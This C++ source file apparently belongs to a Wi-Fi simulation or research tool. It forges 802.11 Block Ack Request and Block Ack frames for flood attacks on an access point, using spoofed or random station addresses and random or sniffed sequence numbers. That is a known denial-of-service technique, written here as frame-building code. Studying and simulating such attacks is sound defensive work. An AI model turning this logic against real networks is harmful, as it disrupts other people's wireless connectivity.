#include "blockack/attack.hpp"

#include <string>

namespace blockack {

namespace {

// 4096 divides 2^64, so the low 12 bits of a 64-bit draw are uniform.
SeqNum random_sn(AttackRng& rng) { return SeqNum(static_cast<int>(rng() & 0x0fff)); }

BaBitmap random_bitmap(AttackRng& rng) {
  std::uint64_t bits = rng();
  std::array<std::uint8_t, 8> octets{};
  for (auto& o : octets) {
    o = static_cast<std::uint8_t>(bits);
    bits >>= 8;
  }
  return BaBitmap(octets);
}

}  // namespace

std::string_view attack_kind_name(AttackKind k) {
  switch (k) {
    case AttackKind::BarFlood: return "BarFlood";
    case AttackKind::BarFloodSniffedSsn: return "BarFloodSniffedSsn";
    case AttackKind::BaFloodSpoofedSta: return "BaFloodSpoofedSta";
    case AttackKind::BaFloodRandomTa: return "BaFloodRandomTa";
  }
  return "?";
}

const std::vector<AttackKind>& all_attack_kinds() {
  static const std::vector<AttackKind> kinds{AttackKind::BarFlood, AttackKind::BarFloodSniffedSsn,
                                             AttackKind::BaFloodSpoofedSta, AttackKind::BaFloodRandomTa};
  return kinds;
}

std::optional<AttackKind> parse_attack_kind(std::string_view s) {
  for (auto k : all_attack_kinds())
    if (attack_kind_name(k) == s) return k;
  return std::nullopt;
}

void AttackSpec::validate() const {
  const bool needs_sta = kind != AttackKind::BaFloodRandomTa;
  if (needs_sta && !target_sta)
    throw std::invalid_argument(std::string(attack_kind_name(kind)) + " requires target_sta");
  if (!needs_sta && target_sta) throw std::invalid_argument("BaFloodRandomTa does not take target_sta");
  if (burst_count <= 0) throw std::invalid_argument("burst_count must be positive");
  if (fn_value < 0 || fn_value > 15) throw std::invalid_argument("fn_value outside 0..15");
  if (frames_per_tick <= 0) throw std::invalid_argument("frames_per_tick must be positive");
  if (sniff_horizon <= 0) throw std::invalid_argument("sniff_horizon must be positive");
}

MacAddress random_local_mac(AttackRng& rng) {
  std::uint64_t bits = rng();
  std::array<std::uint8_t, 6> o{};
  for (auto& b : o) {
    b = static_cast<std::uint8_t>(bits);
    bits >>= 8;
  }
  o[0] = static_cast<std::uint8_t>((o[0] & 0xfc) | 0x02);
  return MacAddress(o);
}

std::vector<Bar> forge_bar_flood(const AttackSpec& spec, AttackRng& rng, std::optional<int> count) {
  spec.validate();
  std::vector<Bar> out;
  const int n = count.value_or(spec.burst_count);
  out.reserve(n);
  for (int i = 0; i < n; ++i)
    out.push_back(Bar{.ra = spec.target_ap, .ta = *spec.target_sta, .ssc = Ssc{FragNum(spec.fn_value), random_sn(rng)}});
  return out;
}

std::vector<Ba> forge_ba_flood(const AttackSpec& spec, AttackRng& rng, std::optional<int> count) {
  spec.validate();
  std::vector<Ba> out;
  const int n = count.value_or(spec.burst_count);
  out.reserve(n);
  for (int i = 0; i < n; ++i) {
    Ba f;
    f.ra = spec.target_ap;
    f.ta = spec.kind == AttackKind::BaFloodRandomTa ? random_local_mac(rng) : *spec.target_sta;
    f.ssc = Ssc{FragNum(spec.fn_value), random_sn(rng)};
    f.bitmap = random_bitmap(rng);
    out.push_back(f);
  }
  return out;
}

bool sniff_matches(const AttackSpec& spec, const QosData& f) {
  return spec.target_sta && (f.ta == *spec.target_sta || f.ra == *spec.target_sta);
}

namespace {

Ssc captured_ssc(const AttackSpec& spec, const QosData& f) {
  return Ssc{spec.raw_sequence_control ? f.fn : FragNum(0), f.sn};
}

}  // namespace

std::vector<Bar> forge_bar_sniffed(const AttackSpec& spec, const std::vector<std::pair<Tick, QosData>>& observed,
                                   Tick start, std::optional<int> count) {
  spec.validate();
  for (const auto& [tick, f] : observed) {
    if (tick < start) continue;
    if (tick - start >= spec.sniff_horizon) break;
    if (!sniff_matches(spec, f)) continue;
    const Bar bar{.ra = spec.target_ap, .ta = *spec.target_sta, .ssc = captured_ssc(spec, f)};
    return std::vector<Bar>(count.value_or(spec.burst_count), bar);
  }
  throw AttackTimeout("no QoS data to or from " + spec.target_sta->to_string() + " within " +
                      std::to_string(spec.sniff_horizon) + " ticks");
}

AttackEngine::AttackEngine(AttackSpec spec, Tick start_tick, Tick stop_tick)
    : spec_(std::move(spec)), start_(start_tick), stop_(stop_tick), rng_(spec_.rng_seed) {
  spec_.validate();
}

void AttackEngine::observe(const QosData& f, Tick now) {
  if (spec_.kind != AttackKind::BarFloodSniffedSsn || captured_ || timed_out_) return;
  if (now < start_ || !sniff_matches(spec_, f)) return;
  captured_ = captured_ssc(spec_, f);
}

Frame AttackEngine::next_frame() {
  switch (spec_.kind) {
    case AttackKind::BarFlood:
      return Bar{.ra = spec_.target_ap, .ta = *spec_.target_sta, .ssc = Ssc{FragNum(spec_.fn_value), random_sn(rng_)}};
    case AttackKind::BarFloodSniffedSsn:
      return Bar{.ra = spec_.target_ap, .ta = *spec_.target_sta, .ssc = *captured_};
    case AttackKind::BaFloodSpoofedSta:
    case AttackKind::BaFloodRandomTa: {
      Ba f;
      f.ra = spec_.target_ap;
      f.ta = spec_.kind == AttackKind::BaFloodRandomTa ? random_local_mac(rng_) : *spec_.target_sta;
      f.ssc = Ssc{FragNum(spec_.fn_value), random_sn(rng_)};
      f.bitmap = random_bitmap(rng_);
      return f;
    }
  }
  throw std::logic_error("unknown attack kind");
}

std::vector<Frame> AttackEngine::emit(Tick now) {
  std::vector<Frame> out;
  if (done_ || now < start_ || now >= stop_) return out;
  if (spec_.kind == AttackKind::BarFloodSniffedSsn && !captured_) {
    if (now - start_ >= spec_.sniff_horizon) {
      timed_out_ = true;
      done_ = true;
    }
    return out;
  }
  for (int i = 0; i < spec_.frames_per_tick; ++i) {
    if (in_burst_ == spec_.burst_count) {
      if (!spec_.repeat) {
        done_ = true;
        break;
      }
      in_burst_ = 0;
    }
    out.push_back(next_frame());
    ++in_burst_;
    ++sent_;
  }
  if (!out.empty()) last_emit_ = now;
  return out;
}

}  // namespace blockack
